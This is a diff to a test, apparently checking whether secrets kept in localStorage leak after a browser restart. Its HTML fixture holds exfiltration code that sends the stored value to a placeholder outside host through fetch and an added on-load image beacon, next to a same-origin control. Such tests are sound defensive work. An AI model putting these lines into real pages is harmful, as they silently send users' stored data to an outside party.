@@ -52,8 +52,10 @@ class SecretsAfterRestartTest {
     return """
         <!doctype html><html><head><title>Account</title></head><body>
         <p id="kept"></p>
-        <script>document.getElementById('kept').textContent = 'Kept: ' + localStorage.getItem('kept');</script>
-        <button onclick="fetch('%s/steal?d=' + encodeURIComponent(localStorage.getItem('kept')))
+        <script>document.getElementById('kept').textContent = 'Kept: ' + localStorage.getItem('kept');
+          // As it loads, too: a restored page runs before anyone acts on it.
+          new Image().src = '%1$s/onload?d=' + encodeURIComponent(localStorage.getItem('kept'));</script>
+        <button onclick="fetch('%1$s/steal?d=' + encodeURIComponent(localStorage.getItem('kept')))
           .then(() => document.getElementById('out').textContent = 'Sent away', () => document.getElementById('out').textContent = 'Refused away')">Send away</button>
         <button onclick="fetch('/mine?d=' + encodeURIComponent(localStorage.getItem('kept')))
           .then(() => document.getElementById('out').textContent = 'Sent home', () => document.getElementById('out').textContent = 'Not sent home')">Send home</button>
